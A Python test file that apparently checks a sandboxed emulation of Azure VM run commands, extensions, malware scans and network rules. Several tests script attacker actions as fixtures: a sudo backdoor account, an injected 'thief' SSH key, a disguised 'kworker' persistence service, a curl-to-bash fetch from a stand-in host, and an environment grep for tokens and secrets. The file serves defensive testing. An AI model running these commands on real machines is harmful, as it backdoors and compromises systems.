"""What scripts and extensions do inside a Linux machine: real bash, in a root directory that is thrown away."""

import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from azure.core.exceptions import HttpResponseError, ResourceExistsError, ResourceNotFoundError

from sandbox.azure import guest, guest_jail
from tests.sandbox.estate import GROUP
from tests.sandbox.machines import (
    AT,
    PASSWORD,
    VM,
    bash,
    extension,
    files_of,
    gets_in,
    guest_of,
    managed,
    model,
    opened,
)

pytestmark = pytest.mark.skipif(not guest_jail.available(), reason="no user namespaces here")

KEY, THIEF = "ssh-ed25519 AAAAC3own ops", "ssh-ed25519 AAAAC3thief mallory"


def declared(azure: Any, **entry: Any) -> None:
    guest.declare(azure.world, {"id": VM, **entry})


async def test_a_script_runs_as_root_in_the_machine_and_leaves_its_output() -> None:
    async with opened() as (azure, client):
        said = await bash(client, "id -un", "cat /etc/hostname", "echo oops >&2")
        assert said == "Enable succeeded: \n[stdout]\nroot\nweb\n\n[stderr]\noops\n"
        assert azure.world.state["compute"]["ran"][-1]["script"].startswith("id -un")
        failed = await bash(client, "exit 3")
        assert failed.startswith("Enable failed: failed to execute command: command terminated with exit status=3\n")
        with pytest.raises(HttpResponseError, match="InvalidParameter"):
            await client.virtual_machines.begin_run_command(*AT, {"commandId": "FormatDisk"})


async def test_accounts_keys_and_units_that_a_thief_makes_are_there_and_can_be_taken_away() -> None:
    async with opened() as (azure, client):
        before = azure.world.snapshot()
        await bash(
            client,
            "useradd -m -s /bin/bash -G sudo eve && echo 'eve:Thief-1$' | chpasswd",
            f"mkdir -p /home/azureuser/.ssh && echo '{THIEF}' >> /home/azureuser/.ssh/authorized_keys",
            "printf '[Service]\\nExecStart=/usr/local/bin/kworker\\n' > /etc/systemd/system/kworker.service",
            "systemctl enable --now kworker",
        )
        assert gets_in(azure, "eve", "Thief-1$")
        assert not gets_in(azure, "eve", "Thief-2$")
        assert gets_in(azure, "azureuser", key=THIEF)
        assert files_of(azure)["/run/systemd/units/kworker.service"]
        assert "Thief-1" not in json.dumps(guest_of(azure))
        await bash(
            client,
            "userdel -r eve",
            "rm -r /home/azureuser/.ssh",
            "systemctl disable --now kworker && rm /etc/systemd/system/kworker.service",
        )
        assert not gets_in(azure, "eve", "Thief-1$")
        assert not gets_in(azure, "azureuser", key=THIEF)
        assert azure.world.snapshot() == before


async def test_a_new_password_comes_as_a_protected_parameter_and_is_nowhere_afterwards() -> None:
    async with opened() as (azure, client):
        secret = "Brand-new-9 $x`\\'"
        script = "printf '%s:%s\\n' azureuser \"$secret\" | chpasswd"
        protected = [{"name": "secret", "value": secret}]
        view = await managed(client, source={"script": script}, protectedParameters=protected)
        assert (view.execution_state, view.exit_code) == ("Succeeded", 0)
        assert gets_in(azure, "azureuser", secret)
        assert not gets_in(azure, "azureuser", PASSWORD)
        assert json.dumps(secret)[1:-1] not in json.dumps(azure.world.dump())
        assert "Brand-new" not in json.dumps(azure.world.dump())


@pytest.mark.parametrize(
    "lock",
    ["usermod -L azureuser", "passwd -l azureuser", "chage -E 0 azureuser", "usermod -s /usr/sbin/nologin azureuser"],
)
async def test_an_account_that_is_locked_lets_nobody_in(lock: str) -> None:
    async with opened() as (azure, client):
        assert gets_in(azure, "azureuser", PASSWORD)
        await bash(client, lock)
        assert not gets_in(azure, "azureuser", PASSWORD)


async def test_a_hash_can_be_set_as_it_is() -> None:
    async with opened() as (azure, client):
        await bash(client, "echo azureuser:$(printf Hashed-4 | openssl passwd -6 -stdin) | chpasswd -e")
        assert gets_in(azure, "azureuser", "Hashed-4")


async def test_nothing_of_the_host_is_in_reach(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    mark.write_text("host")
    async with opened() as (_, client):
        said = await bash(
            client,
            f"cat {mark}; echo x > {mark}; ls /.host/old",
            "echo x > /.host/usr/x || echo read-only",
            "(echo > /dev/tcp/127.0.0.1/1) 2>&1 | grep -o 'Network is unreachable' | head -n 1",
            "curl -s http://198.51.100.99/x | bash",
            "env | grep -c -i -E 'azure|token|secret'",
        )
    assert mark.read_text() == "host"
    assert "read-only" in said
    assert "Network is unreachable" in said
    assert "[stdout]\nhost" not in said


async def test_a_managed_command_stays_until_it_is_deleted_and_shows_its_tail() -> None:
    async with opened() as (_, client):
        commands = client.virtual_machine_run_commands
        view = await managed(client, source={"script": "seq 1 5000; echo sorry >&2; exit 4"})
        assert (view.execution_state, view.exit_code, view.error) == ("Failed", 4, "sorry\n")
        assert len(view.output) == 4096
        assert view.output.endswith("5000\n")
        plain = await commands.get_by_virtual_machine(*AT, "job")
        assert (plain.instance_view, plain.provisioning_state) == (None, "Succeeded")
        assert [c.name async for c in commands.list_by_virtual_machine(*AT)] == ["job"]
        await (await commands.begin_delete(*AT, "job")).result()
        with pytest.raises(ResourceNotFoundError):
            await commands.get_by_virtual_machine(*AT, "job")
        with pytest.raises(HttpResponseError, match="VMExtensionProvisioningError"):
            await managed(client, source={"script": "false"}, treatFailureAsDeploymentFailure=True)


async def test_named_parameters_are_environment_and_nameless_ones_arguments() -> None:
    async with opened() as (_, client):
        given = [{"name": "color", "value": "deep red"}, {"name": "", "value": "first"}]
        view = await managed(client, source={"script": 'echo "$color" "$1"'}, parameters=given)
        assert view.output == "deep red first\n"
        view = await managed(client, source={"script": "id"}, runAsUser="nobody-here")
        assert "Failed to lookup RunAs user" in view.error


async def test_a_machine_takes_one_script_at_a_time_and_25_managed_commands() -> None:
    async with opened() as (azure, client):
        for number in range(25):
            await managed(client, f"job{number}", source={"script": "true"})
        with pytest.raises(ResourceExistsError, match="25 run commands"):
            await managed(client, "one-more", source={"script": "true"})
        azure.world.pace.polls = 99
        body = {"commandId": "RunShellScript", "script": ["true"]}
        await client.virtual_machines.begin_run_command(*AT, body, polling=False)
        with pytest.raises(ResourceExistsError, match="is in progress"):
            await client.virtual_machines.begin_run_command(*AT, body)


@pytest.mark.parametrize("scanner", ["clamav", "mdatp"])
async def test_a_scan_takes_its_time_and_names_what_is_infected(scanner: str) -> None:
    async with opened() as (azure, client):
        files = {"/opt/miner": "COUNTERSIGN-SANDBOX-MALWARE:Unix.Coinminer.XMRig", "/opt/fine": "fine"}
        declared(azure, scanner=scanner, scan_seconds=3600, files=files)
        script = "clamscan -r -i /" if scanner == "clamav" else "mdatp scan full; mdatp threat list --output json"
        view = await managed(client, source={"script": script}, asyncExecution=True, timeoutInSeconds=7200)
        assert (view.execution_state, view.output) == ("Running", "")
        azure.clock.advance(timedelta(seconds=3601))
        commands = client.virtual_machine_run_commands
        view = (await commands.get_by_virtual_machine(*AT, "job", expand="instanceView")).instance_view
        assert "Unix.Coinminer.XMRig" in view.output
        assert "/opt/miner" in view.output
        assert "/opt/fine" not in view.output
        assert (view.execution_state, view.exit_code) == (("Failed", 1) if scanner == "clamav" else ("Succeeded", 0))
        assert guest.malware(guest_of(azure))[0].endswith("miner")


async def test_a_scan_longer_than_its_limit_is_timed_out() -> None:
    async with opened() as (azure, client):
        declared(azure, scanner="clamav", scan_seconds=600)
        await managed(client, source={"script": "clamscan -r /"}, timeoutInSeconds=60)
        azure.clock.advance(timedelta(seconds=61))
        commands = client.virtual_machine_run_commands
        view = (await commands.get_by_virtual_machine(*AT, "job", expand="instanceView")).instance_view
        assert view.execution_state == "TimedOut"


async def test_a_machine_without_a_scanner_says_so() -> None:
    async with opened() as (_, client):
        said = await bash(client, "command -v clamscan mdatp || echo none; clamscan -r /")
        assert "none" in said
        assert "clamscan: command not found" in said


async def test_the_access_extension_sets_passwords_and_keys_that_no_answer_shows() -> None:
    async with opened() as (azure, client):
        extensions = client.virtual_machine_extensions
        made = await (await extensions.begin_create_or_update(*AT, "enablevmaccess", extension())).result()
        assert made.properties.provisioning_state == "Succeeded"
        assert gets_in(azure, "azureuser", "Second-secret-2!")
        listed = await extensions.list(*AT)
        assert [e.name for e in listed.value] == ["enablevmaccess"]
        assert "Second-secret" not in json.dumps(azure.world.dump())
        with pytest.raises(HttpResponseError, match="Multiple VMExtensions"):
            await extensions.begin_create_or_update(*AT, "another", extension())
        body = extension()
        body["properties"]["protectedSettings"] = {"username": "eve", "ssh_key": THIEF}
        await (await extensions.begin_create_or_update(*AT, "enablevmaccess", body)).result()
        assert gets_in(azure, "eve", key=THIEF)
        body["properties"]["protectedSettings"] = {"remove_user": "eve"}
        await (await extensions.begin_create_or_update(*AT, "enablevmaccess", body)).result()
        assert not gets_in(azure, "eve", key=THIEF)
        await (await extensions.begin_delete(*AT, "enablevmaccess")).result()
        with pytest.raises(ResourceNotFoundError):
            await extensions.get(*AT, "enablevmaccess")
        await (await extensions.begin_delete(*AT, "enablevmaccess")).result()


async def test_a_custom_script_has_effect_and_its_failure_is_the_extensions() -> None:
    async with opened() as (azure, client):
        kind = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1"}
        settings = {"commandToExecute": "echo COUNTERSIGN-SANDBOX-MALWARE > /opt/x"}
        body: dict[str, Any] = {"location": "westeurope", "properties": {**kind, "protectedSettings": settings}}
        extensions = client.virtual_machine_extensions
        await (await extensions.begin_create_or_update(*AT, "script", body)).result()
        assert guest.malware(guest_of(azure)) == ("/opt/x",)
        body["properties"]["protectedSettings"] = {"commandToExecute": "false"}
        with pytest.raises(HttpResponseError, match="VMExtensionProvisioningError"):
            await (await extensions.begin_create_or_update(*AT, "script", body)).result()
        assert (await extensions.get(*AT, "script")).properties.provisioning_state == "Failed"


async def test_nothing_runs_in_a_machine_that_is_off_or_whose_agent_is_silent() -> None:
    async with opened() as (azure, client):
        await (await client.virtual_machines.begin_power_off(*AT)).result()
        await client.virtual_machines.instance_view(*AT)
        assert not gets_in(azure, "azureuser", PASSWORD)
        await (await client.virtual_machines.begin_start(*AT)).result()
        await client.virtual_machines.instance_view(*AT)
        assert gets_in(azure, "azureuser", PASSWORD)
        declared(azure, agent="not ready")
        view = await client.virtual_machines.instance_view(*AT)
        assert view.vm_agent.statuses[0].display_status == "Not Ready"
        with pytest.raises(HttpResponseError, match="VMAgentStatusCommunicationError"):
            await bash(client, "true")
        with pytest.raises(HttpResponseError, match="VMAgentStatusCommunicationError"):
            await managed(client, source={"script": "true"})
        await (await client.virtual_machines.begin_power_off(*AT)).result()
        with pytest.raises(ResourceExistsError, match="not running"):
            await bash(client, "true")
        with pytest.raises(ResourceExistsError, match="not running"):
            await client.virtual_machine_extensions.begin_create_or_update(*AT, "x", extension())
        with pytest.raises(ResourceExistsError, match="not running"):
            await client.virtual_machine_run_commands.begin_delete(*AT, "job")


async def test_a_world_file_says_what_is_in_a_machine() -> None:
    users = [{"name": "ops", "keys": [KEY], "groups": ["sudo"]}, {"name": "old", "password": "Old-5", "enabled": False}]
    async with opened() as (azure, client):
        azure.world.load(
            {"machines": [{"id": VM, "users": users, "services": {"nginx": "/usr/sbin/nginx"}}]}, azure.clock.now()
        )
        before = azure.world.snapshot()
        said = await bash(client, "getent passwd ops; systemctl is-active nginx; id -Gn ops")
        assert "/home/ops:/bin/bash\nactive\nops sudo\n" in said
        assert azure.world.snapshot() == before
        assert gets_in(azure, "ops", key=KEY)
        assert not gets_in(azure, "old", "Old-5")
        with pytest.raises(ValueError, match="no machine"):
            azure.world.load({"machines": [{"id": f"{VM}-ghost"}]}, azure.clock.now())


async def test_security_groups_decide_who_reaches_a_machine() -> None:
    nic, group = (
        f"{GROUP}/providers/Microsoft.Network/{n}" for n in ("networkInterfaces/nic", "networkSecurityGroups/g")
    )
    body = model()
    body["properties"]["networkProfile"] = {"networkInterfaces": [{"id": nic}]}
    async with opened(body=body) as (azure, _):
        azure.world.put(nic, {"location": "westeurope", "properties": {"networkSecurityGroup": {"id": group}}})
        azure.world.put(group, {"location": "westeurope", "properties": {"securityRules": []}})
        assert gets_in(azure, "azureuser", PASSWORD)
        assert not gets_in(azure, "azureuser", PASSWORD, source="198.51.100.7")
        open_ = {"direction": "Inbound", "priority": 100, "access": "Allow", "protocol": "Tcp"}
        open_ |= {"sourceAddressPrefix": "198.51.100.0/24", "destinationPortRange": "20-22"}
        azure.world.put(group, {"properties": {"securityRules": [{"name": "ssh", "properties": open_}]}})
        assert gets_in(azure, "azureuser", PASSWORD, source="198.51.100.7")
        shut = {**open_, "access": "Deny", "priority": 99, "sourceAddressPrefix": "*", "destinationPortRange": "*"}
        azure.world.put(group, {"properties": {"securityRules": [{"properties": open_}, {"properties": shut}]}})
        assert not gets_in(azure, "azureuser", PASSWORD)
